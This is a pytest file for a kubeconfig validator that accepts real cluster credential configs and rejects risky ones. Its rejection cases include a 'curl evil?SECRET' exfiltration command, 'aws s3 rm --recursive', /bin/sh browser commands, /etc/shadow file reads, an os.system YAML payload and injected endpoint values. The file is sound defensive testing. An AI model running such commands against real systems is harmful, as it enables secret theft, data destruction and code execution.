"""A kubeconfig from a secret: those of real clusters pass; one that runs a program, reads a file or sends plain text does not."""

import base64
import json
from collections.abc import Mapping
from typing import Any

import pytest

from tests import messages
from tests.errors import fails
from torchrelay.core.errors import LoginFailed
from torchrelay.credentials import kubeconfig

SECRET = "hunter2-hunter2-hunter2"


def config(user: dict[str, Any] | None = None, cluster: Mapping[str, Any] | None = None, **more: Any) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": "c",
        "clusters": [
            {"name": "c", "cluster": {"server": "https://k8s.example", "certificate-authority-data": "QQ=="} | dict(cluster or {})}
        ],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
        "users": [{"name": "u", "user": user if user is not None else {"token": SECRET}}],
    } | more


def runs(command: str, *arguments: str, env: Any = None) -> dict[str, Any]:
    return {"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": command, "args": list(arguments), "env": env}}


@pytest.mark.parametrize(
    "user",
    [
        {"token": SECRET},
        {"client-certificate-data": "QQ==", "client-key-data": SECRET},
        runs("aws", "--region", "eu-west-1", "eks", "get-token", "--cluster-name", "c", "--output", "json"),
        runs("aws", "eks", "get-token", "--cluster-name", "c", "--role-arn", "arn:aws:iam::123456789012:role/x"),
        runs("aws", "eks", "get-token", env=[{"name": "AWS_PROFILE", "value": "x"}]),
        runs("aws-iam-authenticator", "token", "-i", "c"),
        runs("gke-gcloud-auth-plugin"),
        runs("kubelogin", "get-token", "--login", "workloadidentity"),
        runs(
            "kubelogin",
            "get-token",
            "--environment",
            "AzurePublicCloud",
            "--server-id",
            "x",
            "--client-id",
            "y",
            "--tenant-id",
            "z",
        ),
        runs(
            "kubelogin", "get-token", "--oidc-issuer-url=https://issuer.example", "--oidc-client-id=c", "--oidc-extra-scope=email"
        ),
    ],
)
def test_kubeconfigs_of_real_clusters_pass(user: dict[str, Any]) -> None:
    assert kubeconfig.checked(json.dumps(config(user)))["users"][0]["user"] == user


def test_plain_http_on_loopback_passes() -> None:
    kubeconfig.checked(json.dumps(config(cluster={"server": "http://127.0.0.1:8001"})))


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (config(runs("sh", "-c", f"curl evil?{SECRET}")), "would run sh"),
        (config(runs("./aws", "eks", "get-token")), r"would run \./aws"),
        (config(runs("/opt/aws", "eks", "get-token")), "would run /opt/aws"),
        (config(runs("aws", "eks", "get-token", "--endpoint-url", "https://evil.example")), "something other than a token"),
        (config(runs("aws", "s3", "rm", "--recursive", "s3://x")), "something other than a token"),
        (config(runs("aws", "eks", "get-token", "--endpoint-url", "x;y")), "something other than a token"),
        (config(runs("aws", "eks", "get-token", "--cluster-name", "c", "s3", "rm")), "something other than a token"),
        (config(runs("gke-gcloud-auth-plugin", "--impersonate")), "something other than a token"),
        (config(runs("kubelogin", "get-token", "--browser-command", "/bin/sh")), "something other than a token"),
        (config(runs("kubelogin", "get-token", "--browser-command=/bin/sh")), "something other than a token"),
        (config(runs("kubelogin", "get-token", "--login", "--browser-command=/bin/sh")), "something other than a token"),
        (config(runs("kubelogin", "get-token", "--federated-token-file", "/etc/shadow")), "something other than a token"),
        (config(runs("kubelogin", "get-token", "--authority-host", "https://evil.example")), "something other than a token"),
        (config(runs("aws", "eks", "get-token", "--cluster-name", "--endpoint-url=https://evil.example")), "other than a token"),
        (config({"exec": {"command": ["aws"]}}), "would run"),
        (config({"exec": "aws eks get-token"}), "would run None"),
        (config({"exec": {"command": "aws", "args": "eks get-token"}}), "something other than a token"),
        (config(runs("aws", "eks", "get-token", env=[{"name": "AWS_CONFIG_FILE", "value": "x"}])), "sets AWS_CONFIG_FILE"),
        (config(runs("aws", "eks", "get-token", env=[{"name": "PATH", "value": "."}])), "sets PATH"),
        (config(runs("aws", "eks", "get-token", env={"PATH": "."})), "sets None"),
        (config({"auth-provider": {"config": {"cmd-path": "/bin/sh"}}}), "auth-provider"),
        (config({"tokenFile": "/etc/shadow"}), "`tokenFile` names a file"),
        (config({"client-key": "key.pem"}), "`client-key` names a file"),
        (config(cluster={"certificate-authority": "ca.pem"}), "`certificate-authority` names a file"),
        (config(cluster={"server": "http://k8s.example"}), "not an https:// address"),
        (config(cluster={"server": "http://127.0.0.1.evil.example"}), "not an https:// address"),
        (config(cluster={"server": "ftp://127.0.0.1"}), "not an https:// address"),
        (config(cluster={"server": 5}), "not an https:// address"),
        (config(cluster={"server": "https://[::1"}), "not an https:// address"),
        (config(runs("aws", "eks", "get-token", env=[{"name": [1]}])), "sets"),
        (config(contexts=[{"name": ["c"]}]), "names none of its contexts"),
        (config() | {"current-context": [1]}, "names none of its contexts"),
        (config(cluster={"insecure-skip-tls-verify": True}), "gives the credentials to anyone"),
        (config(cluster={"insecure-skip-tls-verify": "yes"}), "gives the credentials to anyone"),
        (config(contexts=[]), "has no contexts"),
        (config() | {"current-context": "x"}, "names none of its contexts"),
        (config(kind="List"), "expected `kind: Config`"),
        (config(users={"u": {"token": SECRET}}), "expected `kind: Config`"),
        (config(clusters=None), "expected `kind: Config`"),
    ],
)
def test_other_kubeconfigs_are_refused_without_their_values(content: dict[str, Any], message: str) -> None:
    with pytest.raises(LoginFailed, match=message) as caught:
        kubeconfig.checked(json.dumps(content, indent=1))
    assert SECRET not in str(caught.value)
    assert caught.value.fix


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "1: is not YAML"),
        (f"just {SECRET}", "1: is not YAML"),
        (f"a: [\n{SECRET}", "is not YAML"),
        (f"kind: Config\n\ttoken: {SECRET}", "2: is not YAML"),
        (f"kind: Config\nkind: {SECRET}", "2: a key is written twice"),
        (f"&a {SECRET}: *b", "is not YAML"),
        ("!!python/object/apply:os.system [id]", "is not YAML"),
    ],
)
def test_other_text_is_refused_with_its_line_only(text: str, message: str) -> None:
    with pytest.raises(LoginFailed, match=f"kubeconfig:{message}" if message[0].isdigit() else message) as caught:
        kubeconfig.checked(text)
    assert SECRET not in str(caught.value)
    assert caught.value.__cause__ is None


def test_a_second_exec_cannot_hide_behind_the_first() -> None:
    """Other readers use the last of two equal keys and this one the first, so a file that repeats a key is refused."""
    text = json.dumps(config(runs("aws", "eks", "get-token"))).replace('"command": "aws"', '"command": "aws", "command": "sh"')
    with fails(LoginFailed, words=messages.WRITTEN_TWICE):
        kubeconfig.checked(text)


def test_the_line_of_the_problem_is_named() -> None:
    text = json.dumps(config(runs("sh")), indent=1)
    line = next(number for number, row in enumerate(text.splitlines(), 1) if '"command"' in row)
    with pytest.raises(LoginFailed, match=f"kubeconfig:{line}: would run sh"):
        kubeconfig.checked(text)


def test_base64_is_accepted() -> None:
    text = json.dumps(config())
    wrapped = base64.encodebytes(text.encode()).decode()
    assert kubeconfig.text_of(wrapped) == text
    assert kubeconfig.text_of(text) == text
    assert kubeconfig.text_of("abc") == "abc"


def test_secrets_are_known_for_masking() -> None:
    content = config({"token": SECRET, "password": "p", "client-key-data": "k", "client-certificate-data": "public"})
    assert list(kubeconfig.secrets_of(content)) == [SECRET, "p", "k"]
